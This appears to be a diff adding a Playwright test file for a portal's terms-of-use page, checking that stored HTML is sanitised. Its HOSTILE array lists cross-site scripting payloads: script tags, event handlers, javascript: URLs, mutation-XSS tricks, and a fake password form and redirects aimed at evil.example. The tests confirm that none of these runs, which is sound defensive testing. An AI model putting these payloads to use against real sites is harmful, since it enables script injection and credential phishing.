@@ -1,0 +1,178 @@
+import fc from 'fast-check'
+import type { Page } from 'playwright-core'
+import { describe, expect, it } from 'vitest'
+import { DESKTOP, expectAccessible, openPortal, PHONE } from '../support/portal.ts'
+
+const portal = openPortal()
+
+/** Opens the term screen with this HTML in storage, where anybody may have put it. */
+async function openWith(html: string, options: Parameters<typeof portal.open>[1] = {}): Promise<Page> {
+  const page = await portal.open('/termos-aceite', options)
+  await page.evaluate((stored) => {
+    localStorage.setItem(
+      'portal.preferences.terms.3',
+      JSON.stringify({ id: 3, typeName: 'Regulamento', html: stored }),
+    )
+    localStorage.setItem('portal.preferences.terms.chosen', '3')
+    history.replaceState(null, '')
+  }, html)
+  await page.reload()
+  await page.getByRole('heading', { level: 1, name: 'Regulamento' }).waitFor()
+  return page
+}
+
+const term = (page: Page) => page.locator('main section')
+
+describe('a term', () => {
+  it.each([
+    ['a phone', PHONE],
+    ['a desktop', DESKTOP],
+  ])('opens in a new tab from the registration on %s', async (_, viewport) => {
+    const page = await portal.open('/register', { viewport })
+    const link = page.getByRole('link', { name: 'Política de Privacidade' })
+    const [tab] = await Promise.all([page.context().waitForEvent('page'), link.click()])
+    await tab.getByRole('heading', { level: 1, name: 'Política de Privacidade' }).waitFor()
+    await tab.getByText('A Rede Boa Praça respeita a sua privacidade.', { exact: false }).waitFor()
+    expect(await tab.title()).toBe('Política de Privacidade · Rede Boa Praça')
+    expect(await tab.getByRole('heading', { level: 1 }).count()).toBe(1)
+    expect(await tab.evaluate(() => window.opener)).toBeNull()
+    await expectAccessible(tab)
+    expect(await page.getByRole('heading', { level: 1 }).textContent()).toBe('Cadastro')
+  })
+
+  it('is found by keyboard, and stays the same when another is opened and this tab is reloaded', async () => {
+    const page = await portal.open('/register')
+    const open = async (name: string) => {
+      await page.getByRole('link', { name }).focus()
+      const [tab] = await Promise.all([page.context().waitForEvent('page'), page.keyboard.press('Enter')])
+      await tab.getByRole('heading', { level: 1, name }).waitFor()
+      return tab
+    }
+    const first = await open('Regulamento do Programa')
+    await open('Política de Privacidade')
+    await first.reload()
+    await first.getByRole('heading', { level: 1, name: 'Regulamento do Programa' }).waitFor()
+  })
+
+  it.each(['light', 'dark'] as const)('says so when none was chosen: %s', async (colorScheme) => {
+    const page = await portal.open('/termos-aceite', { colorScheme })
+    await page.getByText('Nenhum termo foi escolhido').waitFor()
+    await expectAccessible(page)
+    await page.getByRole('link', { name: 'Ir para o cadastro' }).click()
+    await page.getByRole('heading', { level: 1, name: 'Cadastro' }).waitFor()
+  })
+
+  it('is not shown when it is longer than any text can be', async () => {
+    const page = await openWith(`<p>${'a'.repeat(1_000_001)}</p>`)
+    await page.getByText('Não foi possível carregar o termo.').waitFor()
+    await expectAccessible(page)
+  })
+})
+
+const HOSTILE = [
+  '<script>window.hurt = 1</script>',
+  '<img src=x onerror="window.hurt = 1">',
+  '<svg onload="window.hurt = 1"><script>window.hurt = 1</script></svg>',
+  '<math><mi xlink:href="javascript:window.hurt = 1">x</mi></math>',
+  '<a href="javascript:window.hurt = 1">a</a>',
+  '<a href=" java&#x0a;script:window.hurt = 1">a</a>',
+  '<a href="data:text/html,<script>window.hurt = 1</script>">a</a>',
+  '<a href="http://evil.example">a</a>',
+  '<a href="//evil.example">a</a>',
+  '<iframe src="https://evil.example" srcdoc="<script>window.hurt = 1</script>"></iframe>',
+  '<object data="https://evil.example"></object><embed src="https://evil.example">',
+  '<form action="https://evil.example"><input name="senha"><button>Entrar</button></form>',
+  '<style>body { display: none }</style><p style="position: fixed; inset: 0">p</p>',
+  '<p id="root" name="root" class="x" onclick="window.hurt = 1">p</p>',
+  '<base href="https://evil.example"><meta http-equiv="refresh" content="0;url=https://evil.example">',
+  '<img src="data:image/svg+xml,<svg onload=alert(1)>" srcset="https://evil.example/x.png 2x">',
+  '<template><img src=x onerror="window.hurt = 1"></template><video src="https://evil.example"></video>',
+  '<noscript><p title="</noscript><img src=x onerror=window.hurt=1>"></noscript>',
+  '<p title="<h1 onclick=window.hurt=1>">p</p>',
+]
+
+describe('hostile HTML in a term', () => {
+  it('neither runs nor sends nor disguises anything', async () => {
+    const requests: string[] = []
+    const page = await openWith('<p>Bom</p>')
+    page.on('request', (request) => requests.push(request.url()))
+    await page.evaluate(
+      (html) => {
+        localStorage.setItem(
+          'portal.preferences.terms.3',
+          JSON.stringify({ id: 3, typeName: 'Regulamento', html }),
+        )
+      },
+      `<p>Bom</p>${HOSTILE.join('')}`,
+    )
+    // DOMPurify parses what it removes, which the policy notes without running it.
+    portal.tolerate(/Content Security Policy|content-security/i)
+    await page.reload()
+    await term(page).getByText('Bom').waitFor()
+
+    expect(await page.evaluate(() => 'hurt' in window)).toBe(false)
+    expect(requests.filter((url) => url.includes('evil'))).toEqual([])
+    expect(await page.locator('body').isVisible()).toBe(true)
+    const found = await term(page).evaluate((section) =>
+      [...section.querySelectorAll('*')].flatMap((element) => [
+        element.tagName,
+        ...[...element.attributes].map(({ name }) => `@${name}`),
+      ]),
+    )
+    const forbidden =
+      /^(SCRIPT|SVG|MATH|IFRAME|OBJECT|EMBED|FORM|INPUT|BUTTON|STYLE|BASE|META|VIDEO|TEMPLATE|H1|@on|@style|@id|@name|@srcset)/i
+    expect(found.filter((each) => forbidden.test(each))).toEqual([])
+    expect(await term(page).locator('a[href]').count()).toBe(0)
+  })
+
+  it('leaves good text as it was, with its links safe and its title one level down', async () => {
+    const page = await openWith(
+      '<h1>Regras</h1><p>Um <strong>texto</strong> com <a href="https://boapraca.example/x">link</a>, ' +
+        '<a href="mailto:a@b.example">e-mail</a> e <a href="tel:+551133334444">telefone</a>.</p>' +
+        '<table><tr><th scope="col">A</th><td colspan="2">B</td></tr></table><ol start="3"><li>três</li></ol>',
+    )
+    const link = (href: string, text: string) =>
+      `<a href="${href}" target="_blank" rel="noopener noreferrer">${text}</a>`
+    expect(await term(page).locator('> div').innerHTML()).toBe(
+      `<h2>Regras</h2><p>Um <strong>texto</strong> com ${link('https://boapraca.example/x', 'link')}, ` +
+        `${link('mailto:a@b.example', 'e-mail')} e ${link('tel:+551133334444', 'telefone')}.</p>` +
+        '<table><tbody><tr><th scope="col">A</th><td colspan="2">B</td></tr></tbody></table>' +
+        '<ol start="3"><li>três</li></ol>',
+    )
+  })
+
+  it('comes out clean however it is put together, and cleaning it again changes nothing', async () => {
+    const page = await openWith('<p>Bom</p>')
+    await term(page).getByText('Bom').waitFor()
+    portal.tolerate(/Content Security Policy|content-security/i)
+    const piece = fc.oneof(
+      fc.constantFrom(...HOSTILE, '<p>', '</p>', '<table>', '<td>', '<h1>', '</h1>', '<!--', '-->', '"', '<'),
+      fc.string({ maxLength: 12 }),
+    )
+    const texts = fc.sample(
+      fc.array(piece, { maxLength: 8 }).map((pieces) => pieces.join('')),
+      { numRuns: 1500, seed: 20 },
+    )
+
+    // Trusted Types send every HTML of the page through the sanitiser, so writing some is asking it.
+    const problems = await page.evaluate((samples) => {
+      const clean = (html: string) => {
+        const element = document.createElement('div')
+        element.innerHTML = html
+        return element
+      }
+      return samples.filter((html) => {
+        const once = clean(html)
+        const bad = once.querySelector(
+          'script,svg,math,iframe,object,embed,form,input,style,h1,[id],[name],[style]',
+        )
+        const events = [...once.querySelectorAll('*')].some((element) =>
+          [...element.attributes].some(({ name }) => name.startsWith('on')),
+        )
+        return bad !== null || events || clean(once.innerHTML).innerHTML !== once.innerHTML
+      })
+    }, texts)
+    expect(problems).toEqual([])
+    expect(await page.evaluate(() => 'hurt' in window)).toBe(false)
+  })
+})
